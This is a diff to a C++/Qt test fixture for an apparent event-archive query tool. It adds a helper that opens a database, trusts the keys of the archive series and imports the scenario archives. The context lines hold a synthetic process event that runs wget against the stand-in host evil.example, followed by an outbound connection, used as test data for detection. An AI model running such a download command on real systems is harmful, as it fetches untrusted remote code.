@@ -1,6 +1,9 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "queryfixture.h"
 
+#include "importer.h"
+#include "truststore.h"
+
 using namespace Qt::StringLiterals;
 
 namespace Deck::TestSupport {
@@ -144,6 +147,27 @@ QueryScenario::QueryScenario(const QString &dir, const QString &suffix)
     archives << alpha.next({recStart(5000), exit(5010, 200), file(5020, 401, FileOp::Open, "/var/log/x")});
     archives << beta.next({exec(500, 1, u"wget"_s, {"/usr/bin/wget", "http://evil.example/y"}),
                            connect(85, 500, u"10.0.0.9"_s, u"203.0.113.5"_s, 443)});
+}
+
+Flight::Expected<std::unique_ptr<Core::Database>> openScenarioCase(const QString &location, const QString &folder,
+                                                                   const QString &suffix)
+{
+    auto opened = Core::Database::open(location);
+    if (!opened)
+        return opened.error();
+    auto db = std::move(*opened);
+    QueryScenario scenario(folder, suffix);
+    for (const ArchiveSeries *series : {&scenario.alpha, &scenario.beta}) {
+        if (auto trusted = Core::TrustStore(*db).trust(series->key.publicKey(), series->host.hostname); !trusted)
+            return trusted.error();
+    }
+    Core::Importer importer(*db);
+    for (const QString &archive : std::as_const(scenario.archives)) {
+        const auto outcome = importer.importFile(archive);
+        if (outcome.status != Core::ImportStatus::Imported)
+            return Flight::Error{outcome.message};
+    }
+    return db;
 }
 
 } // namespace Deck::TestSupport
